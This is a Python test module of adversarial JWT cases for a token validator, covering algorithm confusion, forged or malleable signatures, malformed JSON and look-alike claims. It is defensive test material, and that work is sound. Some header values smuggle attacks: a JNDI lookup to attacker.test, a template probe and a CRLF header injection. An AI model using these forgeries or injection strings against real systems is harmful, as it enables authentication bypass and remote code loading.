"""Further tokens, thought of as an attacker would; numbered from 201. Form as in `token_cases`."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any, Final

from cryptography.hazmat.primitives.serialization import Encoding

from tests.unit.access.authentication.token_cases import Build, build_cases, swap
from tests.unit.access.authentication.token_factory import (
    DROP,
    OCT_SECRET,
    TokenFactory,
    encode,
    public_bytes,
    public_jwk,
    sign,
)


def _claim(name: str, value: Any) -> Build:
    return lambda f: f.token(**{name: value})


def _head(**header: Any) -> Build:
    return lambda f: f.token(header=header)


def _alg(alg: object) -> Build:
    """A proper RS256 signature under another name of the algorithm."""
    return lambda f: f.token(header={"alg": alg}, sign_as="RS256")


def _time(name: str, offset: float) -> Build:
    return lambda f: f.signed(f.payload(**{name: f.now + offset}))


def _more(text: str) -> Build:
    """Good claims and this JSON text after them."""
    return lambda f: f.signed(f.payload(text))


def _member(name: str, text: str) -> Build:
    return lambda f: f.signed(f.payload(f'"{name}": {text}', **{name: DROP}))


def _header_text(text: str) -> Build:
    """A header whose JSON text after alg and kid is this."""
    return lambda f: f.headed(f'{{"alg":"RS256","kid":"rsa-1"{text}}}')


def _around(before: bytes, after: bytes) -> Build:
    return lambda f: before + f.token() + after


def _other_bits(index: int) -> Build:
    """The last character of a segment spelt with other unused bits."""

    def build(f: TokenFactory) -> bytes:
        alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        for length in range(3):
            token = f.token(header={"pad": "x" * length}, pad="x" * length)
            segment = token.split(b".")[index]
            if len(segment) % 4:  # it has unused bits
                last = alphabet[
                    alphabet.index(segment[-1:]) | 1 : (alphabet.index(segment[-1:]) | 1) + 1
                ]
                return swap(token, index, segment[:-1] + last)
        raise AssertionError("no segment with unused bits was made")

    return build


def _signature(raw: bytes, key: str = "rsa") -> Build:
    return lambda f: swap(f.token(key), 2, encode(raw))


def _curve_signature(change: str) -> Build:
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551

    def build(f: TokenFactory) -> bytes:
        token = f.token("ec")
        data = b".".join(token.split(b".")[:2])
        raw = sign(data, "ec", "ES256")
        r, s = raw[:32], raw[32:]
        forms = {
            "swapped": s + r,
            "r 0": bytes(32) + s,
            "s 0": r + bytes(32),
            "both the order": order.to_bytes(32, "big") * 2,
            "both 1": (b"\0" * 31 + b"\x01") * 2,
            "longer": r + b"\0" + s + b"\0",
            "doubled": raw + raw,
        }
        return swap(token, 2, encode(forms[change]))

    return build


def _malleable_ed(f: TokenFactory) -> bytes:
    """S + L in place of S: a second spelling of a good signature, if it were taken."""
    order = 2**252 + 27742317777372353535851937790883648493
    token = f.token("ed")
    raw = sign(b".".join(token.split(b".")[:2]), "ed", "EdDSA")
    s = int.from_bytes(raw[32:], "little") + order
    return swap(token, 2, encode(raw[:32] + s.to_bytes(32, "little")))


def _detached(f: TokenFactory) -> bytes:
    return swap(f.token(), 1, b"")


def _unencoded(crit: list[str] | None) -> Build:
    """RFC 7797: the claims stand as they are."""

    def build(f: TokenFactory) -> bytes:
        header = f.header(b64=False, crit=crit or DROP)
        payload = f.payload().replace(" ", "").encode()
        data = encode(json.dumps(header).encode()) + b"." + payload
        return data + b"." + encode(sign(data, "rsa", "RS256"))

    return build


def _nested(f: TokenFactory) -> bytes:
    return f.raw(json.dumps(f.header(cty="JWT")).encode(), f.token())


def _json_form(f: TokenFactory) -> bytes:
    header, payload, signature = f.token().decode().split(".")
    form = {"protected": header, "payload": payload, "signature": signature}
    return json.dumps(form).encode()


def _by(secret_of: str, algorithm: str) -> Build:
    secrets: dict[str, Callable[[], bytes]] = {
        "PEM": lambda: public_bytes("rsa", Encoding.PEM),
        "PEM without newline": lambda: public_bytes("rsa", Encoding.PEM).strip(),
        "modulus": lambda: str(public_jwk("rsa")["n"]).encode(),
        "oct": lambda: OCT_SECRET,
    }
    return lambda f: f.token(header={"alg": algorithm}, secret=secrets[secret_of]())


_ALGORITHMS: Final[list[tuple[str, str, Build]]] = [
    ("401", "alg ES256K with a published secp256k1 key", lambda f: f.token("koblitz")),
    ("401", "alg ES256K named for a P-256 key", lambda f: f.token("ec", {"alg": "ES256K"})),
    ("401", "alg Ed25519 (RFC 9864) for an EdDSA key", lambda f: f.token("ed", {"alg": "Ed25519"})),
    ("401", "alg EdDSA with a published Ed448 key", lambda f: f.token("ed448")),
    ("401", "alg Ed448", lambda f: f.token("ed448", {"alg": "Ed448"})),
    ("401", "alg ES384, published but not accepted", lambda f: f.token("p384")),
    ("401", "alg ES256 with the kid of a P-384 key", lambda f: f.token("p384", {"alg": "ES256"})),
    ("401", "alg RS384 for an RS256 key", _head(alg="RS384")),
    ("401", "alg with a blank after it", _alg("RS256 ")),
    ("401", "alg with a NUL after it", _alg("RS256\0")),
    ("401", "alg in full-width letters", _alg("ＲＳ256")),  # noqa: RUF001
    ("401", "alg empty", _alg("")),
    ("401", "alg null", _alg(None)),
    ("401", "alg true", _alg(True)),
    ("401", "alg object", _alg({"RS256": "RS256"})),
    ("401", "alg name of the padding", _alg("RSASSA-PKCS1-v1_5")),
    ("401", "alg none with a good signature", _alg("none")),
    ("401", "alg RSA-OAEP", _alg("RSA-OAEP")),
    ("401", "alg dir", _alg("dir")),
    (
        "401",
        "RS256 signature called PS256 for a key without alg",
        lambda f: f.token("rsa2", {"alg": "PS256"}, sign_as="RS256"),
    ),
    (
        "401",
        "PS256 for a key without alg, which means RS256",
        lambda f: f.token("rsa2", {"alg": "PS256"}),
    ),
    ("401", "PS256 signature called RS256", lambda f: f.token(sign_as="PS256")),
    ("401", "RS512 signature called RS256", lambda f: f.token(sign_as="RS512")),
    ("401", "RS1 signature called RS256", lambda f: f.token(sign_as="RS1")),
    ("401", "HS384 with the PEM", _by("PEM", "HS384")),
    ("401", "HS512 with the modulus", _by("modulus", "HS512")),
    ("401", "HS256 with the PEM without its newline", _by("PEM without newline", "HS256")),
    ("401", "HS256 with the published secret, RSA kid", _by("oct", "HS256")),
    (
        "401",
        "RS256 named, HMAC with the PEM",
        lambda f: f.token(
            secret=public_bytes("rsa", Encoding.PEM), sign_as="HS256", header={"alg": "RS256"}
        ),
    ),
    ("200", "ok key without alg", lambda f: f.token("rsa2")),
    ("401", "signed by another published key", lambda f: f.token("rsa2", {"kid": "rsa-1"})),
    ("401", "signature all zero", _signature(bytes(256))),
    ("401", "signature all ones", _signature(b"\xff" * 256)),
    ("401", "signature one byte", _signature(b"\0")),
    (
        "401",
        "signature a byte too long",
        lambda f: swap(
            f.token(), 2, encode(sign(b".".join(f.token().split(b".")[:2]), "rsa", "RS256") + b"\0")
        ),
    ),
    (
        "401",
        "signature the modulus itself",
        lambda f: swap(f.token(), 2, public_jwk("rsa")["n"].encode()),
    ),
    ("401", "Ed25519 signature empty point", _signature(b"\x01" + bytes(63), "ed")),
    ("401", "Ed25519 signature malleable", _malleable_ed),
    *(
        ("401", f"ES256 signature {change}", _curve_signature(change))
        for change in ("swapped", "r 0", "s 0", "both the order", "both 1", "longer", "doubled")
    ),
]

_HEADERS: Final[list[tuple[str, str, Build]]] = [
    ("401", "cty JWT with a token inside", _nested),
    ("401", "cty JWT with claims inside", _head(cty="JWT")),
    ("401", "cty null", _head(cty=None)),
    ("401", "epk in the header", _head(epk={"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"})),
    ("401", "p2c huge", _head(p2c=2**31, p2s="AAAA")),
    ("401", "enc in the header", _head(enc="A256GCM")),
    ("401", "iv and tag in the header", _head(iv="AAAA", tag="AAAA")),
    ("200", "ok x5t is no business of ours", _head(x5t="AAAA")),
    ("200", "ok x5t#S256", _head(**{"x5t#S256": "AAAA"})),
    ("200", "ok unknown member of the header", _head(nonce="abc")),
    ("401", "x5t number", _head(x5t=1)),
    ("401", "x5c of the trusted key's issuer", _head(x5c=["AAAA"])),
    ("401", "jku to this machine, good signature", _head(jku="http://127.0.0.1:9/jwks.json")),
    ("401", "jku of the issuer itself", lambda f: f.token(header={"jku": f"{f.issuer}jwks.json"})),
    ("401", "jwk null", _head(jwk=None)),
    ("401", "jwk of the right key", lambda f: f.token(header={"jwk": public_jwk("rsa")})),
    ("401", "x5u null", _head(x5u=None)),
    ("401", "crit exp", _head(crit=["exp"])),
    ("401", "crit string", _head(crit="exp")),
    ("401", "crit null", _head(crit=None)),
    ("401", "crit b64 with b64 true", _head(crit=["b64"], b64=True)),
    ("401", "b64 true without crit", _head(b64=True)),
    ("401", "b64 false without crit", _head(b64=False)),
    ("401", "b64 false, claims unencoded", _unencoded(["b64"])),
    ("401", "b64 false, claims unencoded, no crit", _unencoded(None)),
    ("401", "detached payload", _detached),
    ("401", "zip null", _head(zip=None)),
    ("401", "zip empty", _head(zip="")),
    ("401", "typ null", _head(typ=None)),
    ("401", "typ empty", _head(typ="")),
    ("401", "typ list", _head(typ=["JWT"])),
    ("401", "typ with a blank", _head(typ="JWT ")),
    ("401", "typ with a parameter", _head(typ="at+jwt; charset=utf-8")),
    ("401", "typ JWE", _head(typ="JWE")),
    ("401", "typ JOSE", _head(typ="JOSE")),
    ("401", "typ id+jwt", _head(typ="id+jwt")),
    ("401", "typ refresh", _head(typ="Refresh")),
    ("401", "typ in full-width letters", _head(typ="ＪＷＴ")),  # noqa: RUF001
    ("200", "ok typ Application/AT+JWT", _head(typ="Application/AT+JWT")),
    ("200", "ok kid shared by two types, RSA", lambda f: f.token("shared")),
    ("200", "ok kid shared by two types, EC", lambda f: f.token("ec-shared")),
    (
        "401",
        "kid shared, key of the other type",
        lambda f: f.token("shared", {"alg": "ES256"}, sign_as="RS256"),
    ),
    ("401", "kid of two keys of one algorithm, first", lambda f: f.token("twin1")),
    ("401", "kid of two keys of one algorithm, second", lambda f: f.token("twin2")),
    ("401", "kid null", _head(kid=None)),
    ("401", "kid true", _head(kid=True)),
    ("401", "kid with a NUL after it", _head(kid="rsa-1\0")),
    ("401", "kid with a blank after it", _head(kid="rsa-1 ")),
    ("401", "kid in capitals", _head(kid="RSA-1")),
    ("401", "kid with a look-alike", _head(kid="rsа-1")),  # noqa: RUF001
    ("401", "kid with a newline", _head(kid="rsa-1\r\nX-Injected: 1")),
    ("401", "kid a URL", _head(kid="https://attacker.test/key")),
    ("401", "kid a template", _head(kid="${jndi:ldap://attacker.test/x}{{7*7}}")),
    ("401", "kid missing, EC key", lambda f: f.token("ec", {"kid": DROP})),
    ("401", "duplicate kid", _header_text(',"kid":"rsa-1"')),
    ("401", "duplicate alg by an escape", _header_text(',"\\u0061lg":"none"')),
    ("401", "duplicate member that means nothing", _header_text(',"a":1,"a":1')),
    ("401", "duplicate member deep in the header", _header_text(',"a":{"b":1,"b":2}')),
    ("401", "header nested deep", _header_text(f',"a":{"[" * 1200}{"]" * 1200}')),
    ("401", "header number of 3000 digits", _header_text(f',"a":{"9" * 3000}')),
    ("401", "header with NaN", _header_text(',"a":NaN')),
    ("401", "header with a lone surrogate", _header_text(',"a":"\\ud800"')),
    ("401", "header empty object", lambda f: f.headed("{}")),
    ("401", "header a string", lambda f: f.headed('"RS256"')),
    (
        "401",
        "header with a byte order mark",
        lambda f: f.headed(b"\xef\xbb\xbf" + json.dumps(f.header()).encode()),
    ),
    ("401", "header in UTF-16", lambda f: f.headed(json.dumps(f.header()).encode("utf-16"))),
    ("401", "header followed by another object", lambda f: f.headed(json.dumps(f.header()) + "{}")),
    (
        "200",
        "ok header with blanks",
        lambda f: f.headed("\n " + json.dumps(f.header(), indent=2) + "\r\n\t"),
    ),
]

_FORM: Final[list[tuple[str, str, Build]]] = [
    ("401", "leading dot", _around(b".", b"")),
    ("401", "trailing dot", _around(b"", b".")),
    ("401", "only dots", lambda f: b".."),
    ("401", "doubled dots", lambda f: f.token().replace(b".", b"..")),
    ("401", "empty header segment", lambda f: swap(f.token(), 0, b"")),
    ("401", "trailing newline", _around(b"", b"\n")),
    ("401", "trailing CRLF and a header", _around(b"", b"\r\nX-API-Key: 1")),
    ("401", "trailing NUL", _around(b"", b"\0")),
    ("401", "leading NUL", _around(b"\0", b"")),
    ("401", "vertical tab inside", lambda f: f.token().replace(b".", b"\x0b.", 1)),
    ("401", "percent-encoded dots", lambda f: f.token().replace(b".", b"%2E")),
    ("401", "ideographic dots", lambda f: f.token().replace(b".", "。".encode())),
    ("401", "zero-width blank inside", lambda f: f.token().replace(b".", "\u200b.".encode(), 1)),
    ("401", "quoted", _around(b'"', b'"')),
    ("401", "in angle brackets", _around(b"<", b">")),
    ("401", "twice, joined by a comma", lambda f: f.token() + b"," + f.token()),
    (
        "401",
        "twice, as two Authorization values joined",
        lambda f: f.token() + b", Bearer " + f.token(),
    ),
    ("401", "twice, by a blank", lambda f: f.token() + b" " + f.token()),
    ("401", "with a parameter after it", _around(b"", b' realm="mcp"')),
    ("401", "scheme twice", _around(b"Bearer ", b"")),
    ("401", "as JWS JSON serialization", _json_form),
    ("401", "other unused bits in the header", _other_bits(0)),
    ("401", "other unused bits in the payload", _other_bits(1)),
    ("401", "other unused bits in the signature", _other_bits(2)),
    ("401", "a blank in base64", lambda f: f.token().replace(b".", b" .", 1)),
    ("401", "padding inside", lambda f: f.token().replace(b".", b"=.", 1)),
    (
        "401",
        "padding of every segment",
        lambda f: (
            b".".join(part + b"=" * (-len(part) % 4) for part in f.token().split(b".")) + b"="
        ),
    ),
    ("401", "base64 of an impossible length", lambda f: swap(f.token(), 2, b"AAAAA")),
    ("401", "bytes that are no UTF-8", _around(b"", b"\xff\xfe")),
    ("401", "8193 bytes", lambda f: f.token() + b"A" * (8193 - len(f.token()))),
    ("401", "a thousand segments", lambda f: b"A." * 999 + b"A"),
    ("401", "an opaque token", lambda f: b"2YotnFZFEjr1zCsicMWpAA"),
    (
        "401",
        "the issuer's public key",
        lambda f: public_bytes("rsa", Encoding.PEM).replace(b"\n", b""),
    ),
]

_JSON: Final[list[tuple[str, str, Build]]] = [
    ("401", "payload empty object", lambda f: f.signed("{}")),
    ("401", "payload empty", lambda f: f.signed(" ")),
    ("401", "payload a string", lambda f: f.signed(json.dumps(f.payload()))),
    ("401", "payload a number", lambda f: f.signed("1")),
    ("401", "payload true", lambda f: f.signed("true")),
    (
        "401",
        "payload with a byte order mark",
        lambda f: f.signed(b"\xef\xbb\xbf" + f.payload().encode()),
    ),
    ("401", "payload in UTF-16", lambda f: f.signed(f.payload().encode("utf-16-le"))),
    ("401", "payload in UTF-32", lambda f: f.signed(f.payload().encode("utf-32"))),
    ("401", "payload in Latin-1", lambda f: f.signed(f.payload('"x": "é"').encode("latin-1"))),
    (
        "401",
        "overlong UTF-8",
        lambda f: f.signed(f.payload('"x": "@"').encode().replace(b"@", b"\xc0\xaf")),
    ),
    (
        "401",
        "surrogates in UTF-8",
        lambda f: f.signed(f.payload('"x": "@"').encode().replace(b'"@"', b'"\xed\xa0\x80"')),
    ),
    ("401", "trailing comma", lambda f: f.signed(f.payload()[:-1] + ",}")),
    ("401", "comment", lambda f: f.signed(f.payload()[:-1] + "/* */}")),
    ("401", "single quotes", lambda f: f.signed(f.payload().replace('"', "'"))),
    ("401", "two objects", lambda f: f.signed(f.payload() + f.payload())),
    ("401", "NUL after the object", lambda f: f.signed(f.payload() + "\0")),
    ("401", "raw control character in a string", _more('"x": "a\x01b"')),
    ("401", "raw newline in a string", _more('"x": "a\nb"')),
    ("401", "bad escape", _more('"x": "\\x41"')),
    ("401", "NaN in another claim", _more('"x": NaN')),
    ("401", "-Infinity deep in another claim", _more('"x": {"y": [-Infinity]}')),
    ("401", "1e999 in another claim", _more('"x": 1e999')),
    ("401", "5000 digits in another claim", _more(f'"x": {"1" * 5000}')),
    ("401", "5000 digits of a fraction", _more(f'"x": 0.{"1" * 5000}')),
    ("401", "leading zero", _more('"x": 01')),
    ("401", "plus sign", _more('"x": +1')),
    ("401", "hexadecimal", _more('"x": 0x10')),
    ("401", "duplicate exp", _more('"exp": 99999999999')),
    ("401", "duplicate sub, equal", lambda f: f.signed(f.payload('"sub": "client-1@clients"'))),
    (
        "401",
        "duplicate aud by an escape",
        lambda f: f.signed(f.payload(f'"\\u0061ud": {json.dumps(f.audience)}')),
    ),
    ("401", "duplicate deep in another claim", _more('"x": [{"y": 1, "y": 2}]')),
    ("401", "duplicate scope", _more('"scope": "mcp:tools admin"')),
    ("401", "lone surrogate in sub", _member("sub", '"\\udc00"')),
    ("401", "lone surrogate in another claim", _more('"x": ["\\ud83d"]')),
    ("401", "lone surrogate as a name", _more('"\\ud83d": 1')),
    ("401", "surrogates in the wrong order", _more('"x": "\\ude00\\ud83d"')),
    ("200", "ok a pair of surrogates", _more('"x": "\\ud83d\\ude00"')),
    ("200", "ok brackets in a string", _more(f'"x": "{"[{" * 200}"')),
    (
        "200",
        "ok escaped quotes and brackets in a string",
        _more(f'"x": "{"[" * 40}' + '\\"[' * 40 + '"'),
    ),
    ("401", "objects nested deep", _more('"x":' + '{"a":' * 700 + "1" + "}" * 700)),
    ("401", "an endless string after brackets", lambda f: f.signed("[" * 40 + '"' + '\\"' * 2500)),
    (
        "401",
        "an endless escape after brackets",
        lambda f: f.signed("[" * 40 + '"' + "a" * 3000 + "\\"),
    ),
    ("401", "brackets that never close", lambda f: f.signed('{"x":' + "[" * 4000)),
    (
        "401",
        "claim names in capitals",
        lambda f: f.signed(json.dumps({name.upper(): value for name, value in f.claims().items()})),
    ),
    ("401", "__proto__ with the claims", lambda f: f.signed(json.dumps({"__proto__": f.claims()}))),
]

_CLAIMS: Final[list[tuple[str, str, Build]]] = [
    ("401", "exp 1e3", _member("exp", "1e3")),
    ("401", "exp 1e308", _member("exp", "1e308")),
    ("401", "exp 2**63", _claim("exp", 2**63)),
    ("401", "exp 10**23", _claim("exp", 10**23)),
    ("401", "exp empty string", _claim("exp", "")),
    ("401", "exp object", lambda f: f.token(exp={"$date": f.now + 300})),
    ("401", "exp -0", _member("exp", "-0")),
    ("401", "exp false", _claim("exp", False)),
    ("401", "exp in milliseconds", lambda f: f.token(exp=(f.now + 300) * 1000)),
    ("401", "exp an ISO date", _claim("exp", "2099-01-01T00:00:00Z")),
    ("401", "exp just past the leeway", _time("exp", -31)),
    ("401", "exp eight days ahead", _time("exp", 8 * 86_400)),
    ("200", "ok exp six days ahead", _time("exp", 6 * 86_400)),
    (
        "200",
        "ok exp with an exponent",
        lambda f: f.signed(f.payload(f'"exp": {(f.now + 300) / 1e9!r}e9', exp=DROP)),
    ),
    ("401", "nbf true", _claim("nbf", True)),
    ("401", "nbf null", _claim("nbf", None)),
    ("401", "nbf NaN", _member("nbf", "NaN")),
    ("401", "nbf list", _claim("nbf", [1])),
    ("401", "nbf 1e400", _member("nbf", "1e400")),
    ("401", "nbf just beyond the leeway", _time("nbf", 32)),
    ("401", "iat object", _claim("iat", {})),
    ("401", "iat true", _claim("iat", True)),
    ("401", "iat null", _claim("iat", None)),
    ("401", "iat just beyond the leeway", _time("iat", 32)),
    ("401", "iss with a blank after it", lambda f: f.token(iss=f.issuer + " ")),
    ("401", "iss with a look-alike", lambda f: f.token(iss=f.issuer.replace("i", "і"))),  # noqa: RUF001
    ("401", "iss with a NUL after it", lambda f: f.token(iss=f.issuer + "\0")),
    ("401", "iss with a slash more", lambda f: f.token(iss=f.issuer + "/")),
    ("401", "iss with the default port", lambda f: f.token(iss=f.issuer[:-1] + ":443/")),
    ("401", "iss with a user", lambda f: f.token(iss=f.issuer.replace("://", "://x@"))),
    ("401", "iss with plain http", lambda f: f.token(iss=f.issuer.replace("https", "http"))),
    ("401", "iss empty", _claim("iss", "")),
    ("401", "iss true", _claim("iss", True)),
    ("401", "iss longer by another host", lambda f: f.token(iss=f.issuer + "attacker.test")),
    ("401", "aud in a nested list", lambda f: f.token(aud=[[f.audience]])),
    ("401", "aud list with null", lambda f: f.token(aud=[f.audience, None])),
    ("401", "aud list with an object", lambda f: f.token(aud=[f.audience, {}])),
    ("401", "aud list with an empty string", lambda f: f.token(aud=[f.audience, ""])),
    ("401", "aud with a slash more", lambda f: f.token(aud=f.audience + "/")),
    ("401", "aud in capitals", lambda f: f.token(aud=f.audience.upper())),
    ("401", "aud two in one string", lambda f: f.token(aud=f"{f.audience} https://other.test")),
    ("401", "aud two by a comma", lambda f: f.token(aud=f"https://other.test,{f.audience}")),
    ("401", "aud a beginning of ours", lambda f: f.token(aud=f.audience[:-1])),
    ("401", "aud with a look-alike", lambda f: f.token(aud=f.audience.replace("a", "а"))),  # noqa: RUF001
    ("401", "aud wildcard", _claim("aud", "*")),
    ("401", "aud true", _claim("aud", True)),
    ("401", "aud null", _claim("aud", None)),
    ("401", "aud the issuer", lambda f: f.token(aud=f.issuer)),
    ("200", "ok aud the MCP server", lambda f: f.token(aud=f.resource)),
    ("200", "ok aud twice ours", lambda f: f.token(aud=[f.audience, f.audience])),
    ("401", "sub with a newline", _claim("sub", "alice\nadmin")),
    ("401", "sub with a NUL", _claim("sub", "alice\0")),
    ("401", "sub with an escape sequence", _claim("sub", "\x1b[2Jalice")),
    ("401", "sub that runs backwards", _claim("sub", "alice\u202enimda")),
    ("401", "sub with a zero-width blank", _claim("sub", "ali\u200bce")),
    ("401", "sub with a line separator", _claim("sub", "alice\u2028admin")),
    ("401", "sub of blanks", _claim("sub", "   ")),
    ("401", "sub list", _claim("sub", ["alice"])),
    ("401", "sub object", _claim("sub", {"id": "alice"})),
    ("401", "sub true", _claim("sub", True)),
    ("200", "ok sub with a bar", _claim("sub", "auth0|65f1c2")),
    ("200", "ok sub in another script", _claim("sub", "アリス")),
    ("401", "jti list", _claim("jti", [])),
    ("401", "bound to a key by thumbprint", _claim("cnf", {"jkt": "AAAA"})),
    ("401", "bound to a certificate", _claim("cnf", {"x5t#S256": "AAAA"})),
    (
        "401",
        "a logout token without typ",
        lambda f: f.token(
            header={"typ": DROP}, events={"http://schemas.openid.net/event/backchannel-logout": {}}
        ),
    ),
    ("401", "an ID token for our audience", _claim("at_hash", "AAAA")),
]

_RIGHTS: Final[list[tuple[str, str, Build]]] = [
    ("403s", "scope with two blanks", _claim("scope", "openid  mcp:tools")),
    ("403s", "scope with a blank before it", _claim("scope", " mcp:tools")),
    ("403s", "scope with a newline after it", _claim("scope", "mcp:tools\n")),
    ("403s", "scope with a no-break blank", _claim("scope", "openid\u00a0mcp:tools")),
    ("403s", "scope in full-width letters", _claim("scope", "ｍcp:tools")),  # noqa: RUF001
    ("403s", "scope beside one in quotes", _claim("scope", 'mcp:tools "x"')),
    ("403s", "scope beside a backslash", _claim("scope", "mcp:tools \\")),
    ("403s", "scope with a NUL", _claim("scope", "mcp:tools\0")),
    ("403s", "scope true", _claim("scope", True)),
    ("403s", "scopes instead of scope", lambda f: f.token(scope=DROP, scopes=["mcp:tools"])),
    ("403s", "scope percent-encoded", _claim("scope", "mcp%3Atools")),
    ("200", "ok scope twice the same", _claim("scope", "mcp:tools mcp:tools")),
    ("403p", "permissions in a nested list", _claim("permissions", [["mcp/*"]])),
    ("403p", "permissions with a newline", _claim("permissions", ["mcp/*\n"])),
    ("403p", "permissions in full-width letters", _claim("permissions", ["ｍcp/*"])),  # noqa: RUF001
    ("403p", "permissions wildcard alone", _claim("permissions", ["*"])),
    ("403p", "permissions two wildcards", _claim("permissions", ["**/*", "mcp/**"])),
    (
        "403p",
        "permissions by another name",
        lambda f: f.token(permissions=DROP, Permissions=["mcp/*"]),
    ),
    ("403p", "permissions true", _claim("permissions", True)),
    (
        "403p",
        "permissions as a role",
        lambda f: f.token(permissions=DROP, roles=["admin"], admin=True),
    ),
    ("403p", "permissions null", _claim("permissions", None)),
]

OWN_CASES: Final = build_cases(201, [*_ALGORITHMS, *_HEADERS, *_FORM, *_JSON, *_CLAIMS, *_RIGHTS])
"""Further cases, in the order above."""
